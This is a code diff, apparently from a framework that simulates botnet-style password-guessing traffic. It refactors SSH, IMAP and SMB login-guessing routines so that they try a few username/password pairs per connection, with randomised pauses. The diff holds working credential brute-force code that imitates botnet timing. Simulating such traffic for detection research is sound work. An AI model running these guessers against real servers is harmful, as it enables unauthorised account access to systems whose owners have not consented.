@@ -21,31 +21,33 @@ def _pairs(me, users, passwords, slowest):
             me.sleep(me.rng.expovariate(1 / gap))
 
 
+def _batches(me, users, passwords, tries, longest):
+    """The pairs for one connection after the other, with pauses of up to `longest` seconds."""
+    pairs = [(user, password) for user in users for password in passwords]
+    while pairs and not me.over():
+        yield pairs[:tries]
+        pairs = pairs[tries:]
+        me.sleep(me.rng.uniform(0.1, longest))
+
+
 def _ssh_by_hand(me):
     """paramiko, as many a botnet's scripts: several tries per connection."""
     import paramiko
     tries = me.rng.choice((1, 1, 2, 3))
 
     def guess(service, users, passwords):
-        pairs = _pairs_at_once(users, passwords)
-        while pairs and not me.over():
+        for pairs in _batches(me, users, passwords, tries, 1.5):
             with contextlib.suppress(OSError, EOFError, paramiko.SSHException), me.connect(service) as plain:
                 transport = paramiko.Transport(plain)
                 try:
                     transport.banner_timeout = transport.auth_timeout = 8
                     transport.start_client(timeout=8)
-                    for user, password in pairs[:tries]:
+                    for user, password in pairs:
                         with contextlib.suppress(paramiko.AuthenticationException):
                             transport.auth_password(user, password)
                 finally:
                     transport.close()
-            pairs = pairs[tries:]
-            me.sleep(me.rng.uniform(0.1, 1.5))
     return guess
-
-
-def _pairs_at_once(users, passwords):
-    return [(user, password) for user in users for password in passwords]
 
 
 def ssh_guessers(service):
@@ -107,8 +109,7 @@ def _imap_by_hand(me):
     patience = me.rng.uniform(1.5, 5)  # servers answer later and later, and guessers come again instead of waiting
 
     def guess(service, users, passwords):
-        pairs = _pairs_at_once(users, passwords)
-        while pairs and not me.over():
+        for pairs in _batches(me, users, passwords, tries, 2):
             with me.talk(service), contextlib.suppress(OSError, imaplib.IMAP4.error, ssl.SSLError):
                 me.use("imaplib")
                 address = me.address(service, False)
@@ -117,13 +118,11 @@ def _imap_by_hand(me):
                 else:
                     talk = imaplib.IMAP4(address, service.port, timeout=patience)
                 try:
-                    for user, password in pairs[:tries]:
+                    for user, password in pairs:
                         with contextlib.suppress(imaplib.IMAP4.error):
                             talk.login(user, password)
                 finally:
                     talk.shutdown()
-            pairs = pairs[tries:]
-            me.sleep(me.rng.uniform(0.1, 2))
     return guess
 
 
@@ -143,20 +142,17 @@ def _smb_by_hand(me):
     tries = me.rng.choice((1, 1, 2))
 
     def guess(service, users, passwords):
-        pairs = _pairs_at_once(users, passwords)
-        while pairs and not me.over():
+        for pairs in _batches(me, users, passwords, tries, 1.5):
             with me.talk(service), contextlib.suppress(OSError, SessionError, NetBIOSError, NetBIOSTimeout):
                 me.use("impacket")
                 address = me.address(service, False)
                 talk = SMBConnection(address, address, sess_port=service.port, timeout=8)
                 try:
-                    for user, password in pairs[:tries]:
+                    for user, password in pairs:
                         with contextlib.suppress(SessionError):
                             talk.login(user, password)
                 finally:
                     talk.close()
-            pairs = pairs[tries:]
-            me.sleep(me.rng.uniform(0.1, 1.5))
     return guess
 
 
